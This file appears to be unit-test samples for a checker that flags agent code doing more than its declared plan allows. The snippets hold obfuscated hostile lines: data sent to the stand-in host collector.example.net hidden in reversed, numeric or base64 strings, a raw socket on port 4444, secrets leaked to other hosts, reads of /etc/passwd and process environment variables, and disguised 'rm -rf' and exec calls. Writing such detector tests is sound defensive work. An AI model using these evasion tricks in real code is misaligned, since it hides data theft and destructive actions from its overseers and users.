"""Agents that can do more than they seem to: through other names, pieces of text, other files."""

from __future__ import annotations

from tests.unit.planner.review.samples.sample import Sample, plan

EVIL = ("host", "collector.example.net")
SHOP = ("host", "shop.example.com")

HIDDEN = (
    Sample(
        "a program under another name",
        """
        from os import system as tidy
        steps = {"정리": tidy}
        steps["정리"]("rm -rf state")
        """,
        plan(packages=()),
        found=(("subprocess", "os.system"),),
        differs=True,
    ),
    Sample(
        "a program by getattr and pieces",
        """
        import importlib
        tool = importlib.import_module("sub" + "process")
        getattr(tool, "check" + "_output")(["id"])
        """,
        plan(packages=()),
        found=(("subprocess", "subprocess.check_output"),),
        differs=True,
    ),
    Sample(
        "a host written backwards",
        """
        import requests
        PLACE = "ten.elpmaxe.rotcelloc//:sptth"[::-1]
        requests.post(PLACE + "/in", data={"a": 1}, timeout=5)
        """,
        plan(),
        found=(EVIL,),
        differs=True,
    ),
    Sample(
        "a host in numbers",
        """
        import requests
        CODES = [104, 116, 116, 112, 115, 58, 47, 47]
        name = "".join(chr(code) for code in CODES) + "collector" + "." + "example.net"
        requests.get(name, timeout=5)
        """,
        plan(),
        found=(EVIL,),
        differs=True,
    ),
    Sample(
        "a host in base64",
        """
        import base64
        import requests
        where = base64.b64decode("aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS5uZXQvaW4=").decode()
        requests.get(where, timeout=5)
        """,
        plan(),
        found=(EVIL,),
        differs=True,
    ),
    Sample(
        "a second host in the settings",
        """
        import json
        import requests
        with open("settings.json", encoding="utf-8") as file:
            settings = json.load(file)
        for key, value in settings["pages"].items():
            requests.get(value["url"], timeout=5)
        """,
        plan("shop.example.com"),
        found=(SHOP, EVIL),
        differs=True,
        more={
            "settings.json": '{"pages": {"a": {"url": "https://shop.example.com/a"},'
            ' "b": {"url": "https://collector.example.net/b"}}}'
        },
    ),
    Sample(
        "a user name that looks like the shop",
        """
        import urllib.request as web
        web.urlopen("https://shop.example.com@collector.example.net/new", timeout=5)
        """,
        plan("shop.example.com", packages=()),
        found=(EVIL,),
        differs=True,
    ),
    Sample(
        "a method chosen by name",
        """
        import requests
        session = requests.Session()
        send = getattr(session, "post")
        send("https://shop.example.com/orders", json={"id": 1}, timeout=5)
        """,
        plan("shop.example.com"),
        found=(SHOP,),
        differs=True,
    ),
    Sample(
        "a secret sent to another host",
        """
        import agent
        import requests
        headers = {"X-Key": agent.secret("API_KEY")}
        requests.get("https://stats.example.org/ping", headers=headers, timeout=5)
        """,
        plan("api.example.com", "stats.example.org", secrets=(("API_KEY", "api.example.com"),)),
        found=(("host", "stats.example.org"), ("secret", "API_KEY")),
        differs=True,
    ),
    Sample(
        "variables of the machine",
        """
        import os
        settings = {**os.environ}
        print(os.getenv("CLOUD_API_KEY"), len(settings))
        """,
        plan(packages=()),
        found=(("secret", "os.environ"), ("secret", "CLOUD_API_KEY")),
        differs=True,
    ),
    Sample(
        "variables of its own process",
        """
        from pathlib import Path
        proc = Path("/proc") / "self"
        print((proc / "environ").read_bytes())
        """,
        plan(packages=()),
        found=(("file", "/proc/self/environ"),),
        refused=True,
    ),
    Sample(
        "files outside",
        """
        import os
        with open("/etc/" + "passwd") as file:
            names = file.read()
        with open(os.path.join("..", "other", "notes.txt"), "a") as file:
            file.write(names)
        """,
        plan(packages=()),
        found=(("file", "/etc/passwd"), ("file", "../other/notes.txt")),
        differs=True,
    ),
    Sample(
        "mail from inside a class",
        """
        import smtplib as post
        class Sender:
            kind = post.SMTP_SSL
            def send(self, text):
                with self.kind("mail.example.com", 465) as server:
                    server.sendmail("a@example.com", "b@example.com", text)
        Sender().send("보고")
        """,
        plan(packages=()),
        found=(("mail", "smtplib.SMTP_SSL"), ("host", "mail.example.com")),
        differs=True,
    ),
    Sample(
        "a raw connection in a worker",
        """
        import socket
        import threading
        def work(place):
            line = socket.create_connection(place)
            line.sendall(b"hello")
        threading.Thread(target=work, args=(("collector.example.net", 4444),)).start()
        """,
        plan(packages=()),
        found=(("socket", "socket.create_connection"), EVIL),
        differs=True,
    ),
    Sample(
        "a database and a remote shell",
        """
        import paramiko
        import psycopg2
        shell = paramiko.SSHClient()
        shell.connect("host.example.net", username="a")
        base = psycopg2.connect(host="db.example.net", dbname="shop")
        """,
        plan(packages=("paramiko", "psycopg2-binary")),
        found=(
            ("socket", "paramiko.SSHClient"),
            ("socket", "psycopg2.connect"),
            ("host", "host.example.net"),
            ("host", "db.example.net"),
        ),
        cannot=(("package", "paramiko"), ("package", "psycopg2-binary")),
        differs=True,
    ),
    Sample(
        "a browser",
        """
        from playwright.sync_api import sync_playwright
        with sync_playwright() as play:
            page = play.chromium.launch().new_page()
            page.goto("https://shop.example.com/new")
        """,
        plan("shop.example.com", packages=("playwright",)),
        found=(("package", "playwright"), SHOP),
        cannot=(("package", "playwright"),),
        differs=True,
    ),
    Sample(
        "a channel, a memory and a model that the plan lacks",
        """
        import agent
        from agent import llm as think
        agent.state["count"] = agent.state.get("count", 0) + 1
        to = "sl" + "ack"
        agent.deliver(to, think("요약해 줘"))
        """,
        plan(packages=()),
        found=(("state", "agent.state"), ("channel", "slack"), ("model", "agent.llm")),
        differs=True,
    ),
    Sample(
        "packages that are not listed",
        """
        import yaml
        import requests
        from PIL import Image
        Image.new("RGB", (10, 10)).save("outputs/a.png")
        requests.get("https://shop.example.com/", timeout=5)
        """,
        plan("shop.example.com", packages=("requests",)),
        found=(("package", "pyyaml"), ("package", "pillow"), SHOP),
        differs=True,
    ),
    Sample(
        "other pages of an exact page, no certificate for a host with a secret",
        """
        import agent
        import requests
        for number in range(1, 100):
            requests.get(f"https://shop.example.com/new/{number}", timeout=5)
        requests.get("https://api.example.com/me", headers={"K": agent.secret("API_KEY")}, verify=False, timeout=5)
        """,
        plan("= shop.example.com/new", "api.example.com", secrets=(("API_KEY", "api.example.com"),)),
        found=(SHOP, ("host", "api.example.com"), ("secret", "API_KEY")),
        differs=True,
        refused=True,
    ),
    Sample(
        "native memory, and code in a text",
        """
        from ctypes import CDLL
        library = CDLL("libc.so.6")
        exec("import os\\nos.popen('id')")
        """,
        plan(packages=()),
        found=(("native", "ctypes.CDLL"), ("dynamic_code", "exec"), ("subprocess", "os.popen")),
        differs=True,
        refused=True,
    ),
)
